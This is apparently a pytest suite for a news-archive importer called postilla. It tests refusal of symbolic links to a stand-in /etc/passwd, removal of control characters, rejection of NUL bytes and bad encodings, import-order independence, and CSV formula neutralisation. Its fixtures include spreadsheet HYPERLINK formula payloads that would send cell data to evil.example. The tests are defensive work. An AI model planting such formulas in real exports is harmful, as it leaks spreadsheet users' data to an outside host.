"""Hostile input to `postilla import` and hostile text in the data downloads, as a catalogue
of named cases: symbolic links out of the input folder, control characters and NUL bytes
anywhere in a raw file, huge lines, undecodable bytes, misnamed annotation files, cells a
spreadsheet would run as a formula, and imports whose result must not depend on the order
or the batching of the files."""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import shutil
from pathlib import Path

import pytest

from conftest import FIXTURES, IMPORT_DAY, ROOT, empty_content, snapshot
from generator import archive, export, importer, ingest
from generator.annotations import load_annotations
from generator.cli import check, main

OUTLETS = FIXTURES / "outlets"
SECRET = "root:x:0:0:SEGRETO-DI-SISTEMA:/root:/bin/bash\n"
PARAGRAPH = (
    "Il consiglio comunale ha approvato ieri sera il nuovo piano per il trasporto pubblico"
    " della città, dopo una discussione durata più di sei ore tra maggioranza e opposizione."
)


def raw_text(title: str = "Approvato il piano dei trasporti", paragraphs: int = 4) -> str:
    """A plain raw article with a header, a headline and a few paragraphs."""
    body = "\n\n".join(f"{PARAGRAPH} Punto {n}." for n in range(paragraphs))
    return f" date 2023-05-04 https://www.giornale.example/citta/piano-{paragraphs}\n\n{title}\n\n{body}\n"


def articles_of(content: Path) -> dict[str, archive.Article]:
    """Every article of `content` by its raw file's SHA-256."""
    found = [archive.read_article(p) for p in archive.article_paths(content)]
    return {a.raw_sha256: a for a in found}


def raw_files(content: Path) -> dict[str, bytes]:
    folder = content / "raw"
    return {p.name: p.read_bytes() for p in folder.iterdir()} if folder.is_dir() else {}


# --- symbolic links: never followed -------------------------------------------------------


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the input folder standing for /etc/passwd."""
    path = tmp_path / "etc" / "passwd.txt"
    path.parent.mkdir()
    path.write_text(SECRET, "utf-8")
    return path


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    """A scraper's output folder holding one real article."""
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "real.txt").write_text(raw_text(), "utf-8")
    return folder


def assert_only_the_real_article(content: Path) -> None:
    [article] = articles_of(content).values()
    assert article.title == "Approvato il piano dei trasporti"
    for data in raw_files(content).values():
        assert b"SEGRETO" not in data
    for path in content.rglob("*"):
        assert not path.is_symlink(), path


def test_symlink_to_a_file_outside_is_skipped_and_named(
    tmp_path: Path, inbox: Path, secret: Path
) -> None:
    (inbox / "passwd.txt").symlink_to(secret)
    content = empty_content(tmp_path)
    outcomes = importer.import_files([inbox], content, today=IMPORT_DAY)
    skipped = [o for o in outcomes if o.status == "skipped"]
    assert [o.path for o in skipped] == [str(inbox / "passwd.txt")]
    assert "symbolic link" in str(skipped[0]) and str(secret) in str(skipped[0])
    assert [o.status for o in outcomes].count("imported") == 1
    assert_only_the_real_article(content)


def test_symlinked_folder_is_not_entered(tmp_path: Path, inbox: Path, secret: Path) -> None:
    (inbox / "elsewhere").symlink_to(secret.parent, target_is_directory=True)
    content = empty_content(tmp_path)
    outcomes = importer.import_files([inbox], content, today=IMPORT_DAY)
    assert [o.path for o in outcomes if o.status == "skipped"] == [str(inbox / "elsewhere")]
    assert_only_the_real_article(content)


def test_symlink_loop_ends_and_is_skipped(tmp_path: Path, inbox: Path) -> None:
    (inbox / "up").symlink_to(inbox, target_is_directory=True)  # a folder holding itself
    (inbox / "a.txt").symlink_to(inbox / "b.txt")
    (inbox / "b.txt").symlink_to(inbox / "a.txt")
    content = empty_content(tmp_path)
    outcomes = importer.import_files([inbox], content, today=IMPORT_DAY)
    skipped = sorted(Path(o.path).name for o in outcomes if o.status == "skipped")
    assert skipped == ["a.txt", "b.txt", "up"]
    assert_only_the_real_article(content)


def test_symlink_named_directly_is_skipped(tmp_path: Path, secret: Path) -> None:
    link = tmp_path / "article.txt"
    link.symlink_to(secret)
    content = empty_content(tmp_path)
    before = snapshot(content)
    [outcome] = importer.import_files([link], content, today=IMPORT_DAY)
    assert outcome.status == "skipped" and "symbolic link" in outcome.message
    assert snapshot(content) == before


def test_link_swapped_in_after_listing_is_refused(tmp_path: Path, secret: Path) -> None:
    """The file is opened without following links, so a link put in its place between
    listing and reading is refused, not read through."""
    link = tmp_path / "late.txt"
    link.symlink_to(secret)
    with pytest.raises(ingest.ContentError, match="symbolic link"):
        ingest.read_raw(link, "late.txt", follow_symlinks=False)


def test_cli_import_warns_about_the_link_and_imports_the_rest(
    tmp_path: Path, inbox: Path, secret: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (inbox / "passwd.txt").symlink_to(secret)
    content = empty_content(tmp_path)
    assert main(["import", str(inbox), "--content", str(content)]) == 0
    out = capsys.readouterr().out
    [warning] = [line for line in out.splitlines() if "symbolic link" in line]
    assert "passwd.txt" in warning and "warning" in warning
    assert_only_the_real_article(content)


# --- control characters, NUL bytes, huge lines, undecodable bytes --------------------------

CONTROLS = "\x01\x02\x07\x08\x0e\x1b\x7f\x80\x85\x9b\x9f\u202e\u2066\ufffe"


def test_control_characters_beyond_64_kb_are_removed(tmp_path: Path) -> None:
    filler = "\n\n".join(f"{PARAGRAPH} Paragrafo {n}." for n in range(450))  # > 64 KB
    late = "Alla fine del testo" + CONTROLS + " arriva la parola conclusiva."
    path = tmp_path / "long.txt"
    path.write_text(raw_text() + "\n" + filler + "\n\n" + late + "\n", "utf-8")
    assert path.stat().st_size > 65536 * 1.2
    raw = ingest.read_raw(path)
    assert not any(ch in raw.text for ch in CONTROLS)
    content = empty_content(tmp_path)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "imported", outcome
    [article] = articles_of(content).values()
    text = (content / "articles" / f"{article.id}.md").read_text("utf-8")
    assert not any(ch in text for ch in CONTROLS)
    assert "Alla fine del testo arriva la parola conclusiva." in article.paragraphs
    assert (content / article.raw).read_bytes() == path.read_bytes()  # kept as received


def test_control_characters_in_the_headline_are_removed(tmp_path: Path) -> None:
    path = tmp_path / "title.txt"
    path.write_text(raw_text(title="Approvato\x07 il piano\u202e dei trasporti"), "utf-8")
    content = empty_content(tmp_path)
    importer.import_files([path], content, today=IMPORT_DAY)
    [article] = articles_of(content).values()
    assert article.title == "Approvato il piano dei trasporti"


def test_whitespace_controls_separate_words_rather_than_glue_them() -> None:
    raw = ingest.parse_raw("a.txt", "uno\x0cdue\x0btre\x1fquattro\u2028cinque".encode())
    assert raw.text == "uno due tre quattro cinque"


def test_nul_byte_beyond_64_kb_is_refused_naming_the_file(tmp_path: Path) -> None:
    path = tmp_path / "nul.txt"
    path.write_bytes(raw_text(paragraphs=400).encode() + b"coda\x00coda\n")
    assert path.stat().st_size > 65536
    content = empty_content(tmp_path)
    before = snapshot(content)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "error"
    assert str(outcome).startswith(f"{archive.display_path(path)}: ")
    assert "binary" in str(outcome) and "NUL byte at offset" in str(outcome)
    assert snapshot(content) == before


def test_nul_byte_at_the_start_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "nul0.txt"
    path.write_bytes(b"\x00" + raw_text().encode())
    content = empty_content(tmp_path)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "error" and "NUL byte at offset 0" in outcome.message


def test_huge_line_is_imported_as_one_paragraph(tmp_path: Path) -> None:
    words = " ".join(f"parola{n}" for n in range(200_000))  # ~2 MB on one line
    path = tmp_path / "huge.txt"
    path.write_text(raw_text() + "\n" + words + ".\n", "utf-8")
    content = empty_content(tmp_path)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "imported", outcome
    [article] = articles_of(content).values()
    assert any(p.startswith("parola0 parola1 ") for p in article.paragraphs)


def test_file_over_the_size_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ingest, "MAX_RAW_BYTES", 1000)
    path = tmp_path / "big.txt"
    path.write_text(raw_text(paragraphs=20), "utf-8")
    content = empty_content(tmp_path)
    before = snapshot(content)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "error" and "over the 1000-byte limit" in outcome.message
    assert outcome.message.startswith(archive.display_path(path))
    assert snapshot(content) == before


def test_invalid_utf8_falls_back_to_windows_1252(tmp_path: Path) -> None:
    path = tmp_path / "latin.txt"
    path.write_bytes(raw_text().replace("città", "citt\x00").encode().replace(b"\x00", b"\xe0"))
    content = empty_content(tmp_path)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "imported", outcome
    [article] = articles_of(content).values()
    assert "della città," in article.paragraphs[0]


def test_bytes_no_encoding_explains_are_refused_with_the_line(tmp_path: Path) -> None:
    path = tmp_path / "broken.txt"
    path.write_bytes(raw_text().encode() + b"riga rotta \xc3\x28 e \x81\n")
    content = empty_content(tmp_path)
    before = snapshot(content)
    [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
    assert outcome.status == "error"
    assert outcome.message.startswith(f"{archive.display_path(path)}:")
    assert "undecodable byte 0xc3" in outcome.message and "convert it to UTF-8" in outcome.message
    assert snapshot(content) == before


def test_saved_page_control_characters_are_removed() -> None:
    page = (
        "<html><head><title>Piano\x07 approvato</title></head><body><article>"
        + "".join(f"<p>{PARAGRAPH}\x1b\u202e numero {n}.</p>" for n in range(4))
        + "</article></body></html>"
    )
    raw = ingest.parse_html("page.html", page.encode())
    assert not any(ch in raw.text for ch in CONTROLS)
    assert "numero 3." in raw.text


# --- annotation files with another extension ---------------------------------------------


@pytest.mark.parametrize(
    ("name", "renamed"),
    [
        ("nota.yaml", "nota.yml"),
        ("nota.YML", "nota.yml"),
        ("nota.json", "nota.yml"),
        ("sub/nota.Yaml", "nota.yml"),
        (".yaml", "a name ending in .yml"),
    ],
)
def test_annotation_file_with_another_extension_is_reported(
    tmp_path: Path, name: str, renamed: str
) -> None:
    content = empty_content(tmp_path)
    path = content / "annotations" / name
    path.parent.mkdir(parents=True)
    path.write_text("article: x\nannotations: []\n", "utf-8")
    (content / "annotations" / ".gitkeep").write_text("")
    before = snapshot(content)
    problems = [p for p in load_annotations(content, {}).problems if p.path.endswith(name)]
    assert [p.path for p in problems] == [archive.display_path(path)]
    assert "rename it to " + renamed in problems[0].message
    assert problems[0].severity == "error"
    assert any(str(p).startswith(archive.display_path(path)) for p in check(content))
    assert snapshot(content) == before


def test_gitkeep_and_yml_files_are_not_reported(tmp_path: Path) -> None:
    content = empty_content(tmp_path)
    folder = content / "annotations"
    folder.mkdir()
    (folder / ".gitkeep").write_text("")
    (folder / "nota.yml").write_text("article: x\nannotations: []\n", "utf-8")
    messages = [p.message for p in load_annotations(content, {}).problems]
    assert not any("only .yml files" in m for m in messages)


# --- CSV cells a spreadsheet would run -----------------------------------------------------

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = {start: f'{start}HYPERLINK("http://evil.example/?x="&A1,"clic")' for start in DANGEROUS}


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", DANGEROUS, ids=repr)
def test_csv_cell_starting_like_a_formula_is_neutralised(start: str) -> None:
    payload = PAYLOADS[start]
    row = dict.fromkeys(export.FIELDS, payload) | {"entities": [], "annotations": []}
    [parsed] = csv_rows(export.CSV_HEADER + export.csv_line(row))
    for field in export.FIELDS:
        if field not in ("entities", "annotations"):
            assert parsed[field] == "'" + payload, field
    # JSON Lines keep the exact text
    assert json.loads(export.jsonl_line(row))["title"] == payload


@pytest.mark.parametrize(
    "value", ["2021-10-24", "ISIS*", "a = b", "Roma, 3 - 2", "mail@example.org", "'già citato"]
)
def test_csv_cell_not_starting_like_a_formula_is_kept_exactly(value: str) -> None:
    assert export.neutralise_formula(value) == value


def hostile_content(tmp_path: Path) -> Path:
    """Three articles whose title, description and first paragraph begin like formulas
    (edited by hand after import, as a maintainer could)."""
    content = empty_content(tmp_path)
    for n, start in enumerate(["=", "+", "@"]):
        path = tmp_path / f"in{n}.txt"
        path.write_text(raw_text(title=f"Titolo numero {n} del piano", paragraphs=3 + n), "utf-8")
        [outcome] = importer.import_files([path], content, today=IMPORT_DAY)
        assert outcome.status == "imported", outcome
        md = content / "articles" / f"{outcome.article_id}.md"
        text = md.read_text("utf-8")
        title = f"Titolo numero {n} del piano"
        text = text.replace(f"title: {title}", f"title: '{PAYLOADS[start]}'")
        text = text.replace("title_source: headline", "title_source: edited")
        text = text.replace("---\n\n", "---\n\n\\- Un elenco apre il testo.\n\n", 1)
        md.write_text(text, "utf-8")
    return content


def test_export_csv_neutralises_and_jsonl_keeps_the_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = hostile_content(tmp_path)
    assert main(["export", "--format", "csv", "--content", str(content)]) == 0
    rows = csv_rows(capsys.readouterr().out)
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted("'" + PAYLOADS[s] for s in ["=", "+", "@"])
    assert all(r["body"].startswith("'- Un elenco apre il testo.") for r in rows)
    assert main(["export", "--format", "jsonl", "--content", str(content)]) == 0
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert sorted(r["title"] for r in records) == sorted(PAYLOADS[s] for s in ["=", "+", "@"])
    assert all(r["body"].startswith("- Un elenco apre il testo.") for r in records)


def test_site_download_csv_neutralises_formulas(tmp_path: Path) -> None:
    from generator.build import build_site

    content = hostile_content(tmp_path)
    before = snapshot(content)
    site = tmp_path / "site"
    build_site(ROOT / "mkdocs.yml", content, site, progress=False)
    assert snapshot(content) == before
    text = gzip.decompress((site / "downloads" / "archive.csv.gz").read_bytes()).decode("utf-8")
    rows = csv_rows(text)
    assert len(rows) == 3
    for row in rows:
        for field, value in row.items():
            assert not value.startswith(tuple(DANGEROUS)), (field, value)
    assert sorted(r["title"] for r in rows) == sorted("'" + PAYLOADS[s] for s in ["=", "+", "@"])
    jsonl = gzip.decompress((site / "downloads" / "archive.jsonl.gz").read_bytes()).decode()
    titles = sorted(json.loads(line)["title"] for line in jsonl.splitlines())
    assert titles == sorted(PAYLOADS[s] for s in ["=", "+", "@"])


# --- the same set of files, in any order or batching ---------------------------------------

SITE = "https://www.stessosito.example"
FOOTER = (
    "Seguici su Telegram e WhatsApp per le notizie di Stesso Sito",
    "Stesso Sito Editore Srl - P.IVA 01234567890 - Tutti i diritti riservati",
)


def same_site_files(folder: Path) -> list[Path]:
    """A dozen real outlet pages laid out as one site's articles (one address host, the
    site's footer under each), so that lines are learnt across them; the last two are
    re-scrapes of one page (same headline and date, different bytes), contesting an id."""
    folder.mkdir()
    sources = sorted(OUTLETS.glob("o1[0-2]*.txt"))[:11]
    files = []
    for n, source in enumerate(sources):
        lines = source.read_text("utf-8").split("\n")
        if lines[0].startswith(" date "):
            lines = lines[1:]
        text = f" date 2023-0{1 + n % 9} {SITE}/notizie/{n}/\n" + "\n".join(lines)
        path = folder / f"{n:02d}.txt"
        path.write_text(text + "\n\n" + "\n\n".join(FOOTER) + "\n", "utf-8")
        files.append(path)
    twin = files[0].read_text("utf-8").replace(f"{SITE}/notizie/0/", f"{SITE}/notizie/0-bis/")
    (folder / "twin.txt").write_text(twin + "\nAggiornamento: testo rivisto.\n", "utf-8")
    return [*files, folder / "twin.txt"]


def imported_set(
    tmp_path: Path, batches: list[list[Path]], name: str
) -> dict[str, tuple[object, ...]]:
    content = empty_content(tmp_path / name)
    for batch in batches:
        outcomes = importer.import_files(batch, content, today=IMPORT_DAY)
        assert all(o.status in ("imported", "already") for o in outcomes), outcomes
    return {
        sha: (a.id, a.title, a.date, a.paragraphs, a.footnotes, a.removed, a.raw)
        for sha, a in articles_of(content).items()
    }


def test_footer_is_learnt_across_the_site(tmp_path: Path) -> None:
    """The fixture exercises what the order tests need: the footer is removed as
    site-boilerplate and two files contest one id."""
    files = same_site_files(tmp_path / "in")
    result = imported_set(tmp_path, [files], "all")
    assert len(result) == 12
    learnt = 0
    for _, _, _, paragraphs, _, removed, _ in result.values():
        assert not any("Stesso Sito" in p for p in paragraphs)  # type: ignore[attr-defined]
        learnt += any(r.rule == "site-boilerplate" for r in removed)  # type: ignore[attr-defined]
    assert learnt >= 10
    ids = sorted(str(v[0]) for v in result.values())
    assert any(i + "-" in j for i in ids for j in ids if i != j)  # the contested id


ORDER_SEEDS = [3, 17, 2024, 31337, 8]
REVERSED = -1  # the sorted order backwards: the twin first


@pytest.mark.parametrize("seed", [*ORDER_SEEDS, REVERSED])
def test_one_import_in_any_order_gives_the_same_articles_and_ids(tmp_path: Path, seed: int) -> None:
    files = same_site_files(tmp_path / "in")
    reference = imported_set(tmp_path, [files], "sorted")
    shuffled = files[::-1] if seed == REVERSED else random.Random(seed).sample(files, len(files))
    renamed = tmp_path / "renamed"  # names do not matter either
    renamed.mkdir()
    copies = []
    for n, path in enumerate(shuffled):
        copies.append(renamed / f"{100 - n}-{path.name}")
        shutil.copy(path, copies[-1])
    result = imported_set(tmp_path, [copies], "shuffled")
    assert {k: v[:-1] for k, v in result.items()} == {k: v[:-1] for k, v in reference.items()}


@pytest.mark.parametrize("seed", ORDER_SEEDS)
def test_any_batching_then_reclean_gives_the_same_articles_and_ids(
    tmp_path: Path, seed: int
) -> None:
    """Batches in any order and split: the same ids (no id of this set is contested);
    articles of an earlier batch learn the lines the site repeats in a later one with
    `import --reclean`, the command that exists for rewriting articles, after which every
    article is what one import of the whole set gives."""
    files = same_site_files(tmp_path / "in")[:-1]
    reference = imported_set(tmp_path, [files], "one")
    rng = random.Random(seed)
    shuffled = files[:]
    rng.shuffle(shuffled)
    cuts = sorted(rng.sample(range(1, len(shuffled)), rng.randint(1, 4)))
    batches = [shuffled[i:j] for i, j in zip([0, *cuts], [*cuts, len(shuffled)])]
    content = empty_content(tmp_path / "batched")
    for batch in batches:
        importer.import_files(batch, content, today=IMPORT_DAY)
    assert {s: a.id for s, a in articles_of(content).items()} == {
        s: v[0] for s, v in reference.items()
    }
    assert all(o.status != "error" for o in importer.reclean(content))
    again = {
        sha: (a.id, a.title, a.date, a.paragraphs, a.footnotes, a.removed, a.raw)
        for sha, a in articles_of(content).items()
    }
    assert again == reference
